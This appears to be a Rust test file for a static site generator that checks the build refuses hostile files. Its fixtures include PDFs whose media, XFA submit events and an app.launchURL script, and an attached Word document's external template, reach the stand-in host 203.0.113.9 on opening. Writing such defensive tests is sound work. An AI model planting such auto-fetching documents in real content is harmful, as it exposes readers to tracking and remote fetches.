//! The findings of the outside hostile-input sweep fixed in this round.

mod common;

use common::Site;
use std::io::Write;

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// A PDF of `objects` (numbered from 1), a stream's body after `stream`.
fn pdf(objects: &[(&str, Option<&[u8]>)]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    for (i, (dict, body)) in objects.iter().enumerate() {
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        match body {
            Some(b) => {
                let dict = dict.replace(">>", &format!("/Length {} >>", b.len()));
                out.extend_from_slice(format!("{dict}\nstream\n").as_bytes());
                out.extend_from_slice(b);
                out.extend_from_slice(b"\nendstream");
            }
            None => out.extend_from_slice(dict.as_bytes()),
        }
        out.extend_from_slice(b"\nendobj\n");
    }
    out.extend_from_slice(b"trailer\n<< /Root 1 0 R >>\n%%EOF\n");
    out
}

/// Asserts that the build refuses each of `files` with `what`, and writes
/// nothing.
fn refused(s: &Site, files: &[&str], what: &str) {
    let o = s.build();
    assert_eq!(o.code, 1, "{}", o.stderr);
    for file in files {
        let said = format!("{file}: error: not published: {what}");
        assert!(o.stderr.contains(&said), "{file}:\n{}", o.stderr);
    }
    assert!(!s.out().exists(), "nothing written");
}

/// A phone photo inside a PDF was refused only when stored as it is
/// (`/DCTDecode`): behind a filter chain (`[/FlateDecode /DCTDecode]`,
/// ASCIIHex, ASCII85, `[/Fl /DCT]`) or attached to the PDF (compressed,
/// as attachments are), its GPS was published. The chain is now decoded,
/// and an attached file is checked like a document inside a document.
#[test]
fn a_located_photo_behind_a_filter_or_attached_to_a_pdf_is_not_published() {
    let s = Site::fixture("basic");
    let photo = common::photo::phone_photo();
    let image = |filter: &str| {
        format!("<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /Filter {filter} >>")
    };
    let z = deflate(&photo);
    let hexed: String = photo.iter().map(|b| format!("{b:02x}")).collect::<String>() + ">";
    let flate = image("[/FlateDecode /DCTDecode]");
    s.write("static/forms/flate.pdf", pdf(&[(&flate, Some(&z))]));
    let abbrev = image("[/Fl /DCT]");
    s.write("static/forms/abbrev.pdf", pdf(&[(&abbrev, Some(&z))]));
    let hex = image("[/ASCIIHexDecode /DCTDecode]");
    s.write(
        "static/forms/hex.pdf",
        pdf(&[(&hex, Some(hexed.as_bytes()))]),
    );
    let catalog = "<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(site-visit.jpg) << /Type /Filespec /F (site-visit.jpg) /EF << /F 2 0 R >> >>] >> >> >>";
    let embedded = "<< /Type /EmbeddedFile /Subtype /image#2Fjpeg /Filter /FlateDecode >>";
    s.write(
        "static/forms/attached.pdf",
        pdf(&[(catalog, None), (embedded, Some(&z))]),
    );
    refused(
        &s,
        &[
            "static/forms/flate.pdf",
            "static/forms/abbrev.pdf",
            "static/forms/hex.pdf",
        ],
        "a photo in it records where it was taken (GPS), which anyone who saves the picture from the document can read: 1 JPEG image",
    );
    refused(
        &s,
        &["static/forms/attached.pdf"],
        "a photo in it records where it was taken (GPS), which anyone who saves the picture from the document can read: `site-visit.jpg`, a file attached to it",
    );
}

/// A report with a Word document attached whose template is fetched from
/// another host: only "it holds attached files" was said.
#[test]
fn a_document_attached_to_a_pdf_is_checked_like_the_file() {
    let s = Site::fixture("basic");
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let rels = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://203.0.113.9/t.dotm\" TargetMode=\"External\"/></Relationships>";
    for (name, text) in [
        ("[Content_Types].xml", "<Types/>"),
        ("word/_rels/settings.xml.rels", rels),
        ("word/document.xml", "<w:document xmlns:w=\"w\"/>"),
    ] {
        w.start_file(name, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(text.as_bytes()).unwrap();
    }
    let docx = deflate(&w.finish().unwrap().into_inner());
    let catalog = "<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> >>";
    let names = "<< /Names [(notes.docx) << /UF (notes.docx) /EF << /F 2 0 R >> >>] >>";
    s.write(
        "static/forms/report.pdf",
        pdf(&[
            (catalog, None),
            ("<< /Filter /FlateDecode >>", Some(&docx)),
            (names, None),
        ]),
    );
    refused(
        &s,
        &["static/forms/report.pdf"],
        "opening it makes the reader's program fetch from another computer",
    );
    let o = s.build();
    assert!(
        o.stderr
            .contains("attachedTemplate in `notes.docx` `https://203.0.113.9/t.dotm`"),
        "{}",
        o.stderr
    );
}

/// Media played on opening from a URL file specification (`/Rendition`,
/// `/Sound`), and an XFA form that submits on `initialize`, reached
/// another host with no error; an XFA form's JavaScript got no warning.
#[test]
fn a_pdf_whose_media_or_xfa_form_reaches_another_host_is_not_published() {
    let s = Site::fixture("basic");
    let catalog = "<< /Type /Catalog /OpenAction 2 0 R >>";
    let rendition = "<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /Type /Filespec /FS /URL /F (http://203.0.113.9/v.mp4) >> >> >> >>";
    s.write(
        "static/forms/rendition.pdf",
        pdf(&[(catalog, None), (rendition, None)]),
    );
    let sound = "<< /S /Sound /Sound << /Type /Sound /R 8000 /F << /FS /URL /F (http://203.0.113.9/s.wav) >> >> >>";
    s.write(
        "static/forms/sound.pdf",
        pdf(&[(catalog, None), (sound, None)]),
    );
    let form = "<< /Type /Catalog /AcroForm << /Fields [] /XFA 2 0 R >> >>";
    let packet = |event: &str| {
        format!(
            "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform name=\"f\"><event activity=\"initialize\">{event}</event></subform></template></xdp:xdp>"
        )
    };
    let submit = packet("<submit target=\"http://203.0.113.9/x\" format=\"xml\"/>");
    s.write(
        "static/forms/xfa-submit.pdf",
        pdf(&[(form, None), ("<< >>", Some(submit.as_bytes()))]),
    );
    refused(
        &s,
        &[
            "static/forms/rendition.pdf",
            "static/forms/sound.pdf",
            "static/forms/xfa-submit.pdf",
        ],
        "opening it makes the reader's program fetch from another computer",
    );
    std::fs::remove_dir_all(s.path().join("static/forms")).unwrap();
    let script = packet(
        "<script contentType=\"application/x-javascript\">app.launchURL(\"http://203.0.113.9/\", true);</script>",
    );
    s.write(
        "static/forms/xfa-js.pdf",
        pdf(&[
            (form, None),
            (
                "<< /Filter /FlateDecode >>",
                Some(&deflate(script.as_bytes())),
            ),
        ]),
    );
    let o = s.build_ok();
    assert!(
        o.stderr.contains(
            "static/forms/xfa-js.pdf: warning: it holds JavaScript and an XFA form (`/XFA`)"
        ),
        "{}",
        o.stderr
    );
}

/// `fieldguide pdf` stages the site (drafts too with `--drafts`) in
/// `$TMPDIR/fieldguide-pdf-…`; SIGTERM (a CI job's time limit) or SIGHUP
/// (a closed SSH session) ended it with the copy left there for good.
/// Chromium is now stopped, the folder removed, then the signal acts.
#[cfg(unix)]
#[test]
fn pdf_removes_its_staged_copy_on_sigterm_and_sighup() {
    use std::os::unix::process::ExitStatusExt;
    use std::time::{Duration, Instant};
    for sig in [libc::SIGTERM, libc::SIGHUP, libc::SIGINT] {
        // A job started in the background by a shell ignores Ctrl-C, and
        // its children inherit that: the signal's own action is what is
        // tested, whatever started the tests.
        let (mut child, temp, _site) = slow_pdf(sig, libc::SIG_DFL);
        // SAFETY: sends a signal to the child this test started.
        unsafe {
            libc::kill(child.id() as libc::pid_t, sig);
        }
        let stopped = Instant::now();
        let status = child.wait().unwrap();
        assert_eq!(status.signal(), Some(sig), "{status:?}");
        assert!(
            stopped.elapsed() < Duration::from_secs(10),
            "Chromium was waited for"
        );
        let left: Vec<_> = std::fs::read_dir(temp.path().join("tmp"))
            .unwrap()
            .flatten()
            .collect();
        assert!(left.is_empty(), "signal {sig}: left behind {left:?}");
    }
}

/// `nohup fieldguide pdf &` (SIGHUP ignored from the start) stopped
/// printing, with an error, when the terminal closed: the signal it was
/// told to ignore was caught. Now a signal ignored from the start stays
/// ignored; SIGTERM still stops it and removes its folder.
#[cfg(unix)]
#[test]
fn pdf_started_with_nohup_goes_on_when_the_terminal_closes() {
    use std::os::unix::process::ExitStatusExt;
    let (mut child, temp, _site) = slow_pdf(libc::SIGHUP, libc::SIG_IGN);
    // SAFETY: sends signals to the child this test started.
    unsafe {
        libc::kill(child.id() as libc::pid_t, libc::SIGHUP);
    }
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert!(child.try_wait().unwrap().is_none(), "stopped by SIGHUP");
    // SAFETY: as above.
    unsafe {
        libc::kill(child.id() as libc::pid_t, libc::SIGTERM);
    }
    let status = child.wait().unwrap();
    assert_eq!(status.signal(), Some(libc::SIGTERM), "{status:?}");
    let left: Vec<_> = std::fs::read_dir(temp.path().join("tmp"))
        .unwrap()
        .flatten()
        .collect();
    assert!(left.is_empty(), "left behind {left:?}");
}

/// `fieldguide pdf` on the basic fixture, with a browser that never
/// finishes printing, its `TMPDIR` in the returned folder's `tmp`, and
/// `sig`'s action set to `action` in it; returned, with the site, once
/// the site is staged.
#[cfg(unix)]
fn slow_pdf(
    sig: libc::c_int,
    action: libc::sighandler_t,
) -> (std::process::Child, tempfile::TempDir, Site) {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    use std::time::{Duration, Instant};
    let s = Site::fixture("basic");
    let tmp = tempfile::tempdir().unwrap();
    let browser = tmp.path().join("slow-browser");
    std::fs::write(&browser, "#!/bin/sh\nexec sleep 60\n").unwrap();
    std::fs::set_permissions(&browser, std::fs::Permissions::from_mode(0o755)).unwrap();
    let temp = tmp.path().join("tmp");
    std::fs::create_dir(&temp).unwrap();
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_fieldguide"));
    cmd.args(["pdf", "--source"])
        .arg(s.path())
        .arg("--browser")
        .arg(&browser)
        .env("TMPDIR", &temp)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    // SAFETY: only sets a signal's action in the child before exec.
    unsafe {
        cmd.pre_exec(move || {
            libc::signal(sig, action);
            Ok(())
        });
    }
    let child = cmd.spawn().unwrap();
    let staged = || {
        std::fs::read_dir(&temp)
            .unwrap()
            .flatten()
            .any(|e| e.path().join("site").exists())
    };
    let start = Instant::now();
    while !staged() {
        assert!(start.elapsed() < Duration::from_secs(60), "never staged");
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(300));
    (child, tmp, s)
}

/// A file system mounted one level inside a folder planted in the output
/// (a shared drive's FUSE mount, a bind mount): the build moved the
/// folder aside, could not remove the mount, and reported success with
/// `.fieldguide-staging` left in the output. It now fails before moving
/// anything, naming the mount point (root only: it mounts a tmpfs).
#[cfg(target_os = "linux")]
#[test]
fn a_mount_inside_a_planted_folder_fails_the_build_and_is_left_alone() {
    let site = Site::fixture("basic");
    site.build_ok();
    let mnt = site.out().join("planted/sub");
    std::fs::create_dir_all(&mnt).unwrap();
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=1m", "tmpfs"])
        .arg(&mnt)
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        return; // not root
    }
    std::fs::write(mnt.join("theirs.txt"), "kept").unwrap();
    let before = common::tree(&site.out());
    let o = site.build();
    let mut after = common::tree(&site.out());
    let _ = std::process::Command::new("umount").arg(&mnt).status();
    assert_eq!(o.code, 1, "{}", o.stderr);
    assert!(
        o.stderr.contains("planted: error: cannot remove this folder, which this build does not write: a file system is mounted at `planted/sub`"),
        "{}",
        o.stderr
    );
    after.retain(|k, _| !k.starts_with(".fieldguide-staging"));
    assert_eq!(after, before);
    assert!(!site.out().join(".fieldguide-staging").exists());
}

/// Every page links every language and each language gets every page, so
/// a generated list of 800 codes pasted into site.yaml made half a
/// gigabyte of a 3-page site. More than 200 is now an error at the first
/// one too many, and nothing is written.
#[test]
fn more_than_two_hundred_languages_are_refused_in_site_yaml() {
    let s = Site::fixture("basic");
    let mut yaml = s.read("site.yaml");
    for i in 0..250u32 {
        let code = format!(
            "q{}{}",
            (b'a' + (i / 26) as u8) as char,
            (b'a' + (i % 26) as u8) as char
        );
        yaml.push_str(&format!("\n  - {{ code: {code}, name: L{i} }}"));
    }
    s.write("site.yaml", format!("{yaml}\n"));
    let o = s.build();
    assert_eq!(o.code, 1, "{}", o.stderr);
    // en, fr, ar on lines 7-9, a blank line, then the 198th added code
    // (line 208) is the 201st.
    assert!(
        o.stderr
            .contains("site.yaml:208:13: error: more than 200 languages"),
        "{}",
        o.stderr
    );
    assert!(!s.out().exists(), "nothing written");
}

/// `static/` had no depth limit: 3,000 nested folders ended in a 4 KB
/// "File name too long" error. Folders past 32 deep are now an error naming
/// the first, as `guidance/`'s past 12 are.
#[test]
fn folders_nested_without_end_under_static_are_an_error_naming_the_first() {
    let s = Site::fixture("basic");
    let mut rel = String::from("static");
    for i in 0..200 {
        rel.push_str(&format!("/d{i}"));
    }
    s.write(&format!("{rel}/deep.txt"), "x");
    s.write("static/d0/d1/shallow.txt", "kept");
    let o = s.build();
    assert_eq!(o.code, 1, "{}", o.stderr);
    let first: String = (0..33).map(|i| format!("/d{i}")).collect();
    let said = format!(
        "static{first}: error: folders nested more than 32 deep under static/: this one and what it holds are not published"
    );
    assert!(o.stderr.contains(&said), "{}", o.stderr);
    assert_eq!(
        o.stderr.matches("nested more than").count(),
        1,
        "{}",
        o.stderr
    );
    assert!(!o.stderr.contains("too long"), "{}", o.stderr);
}
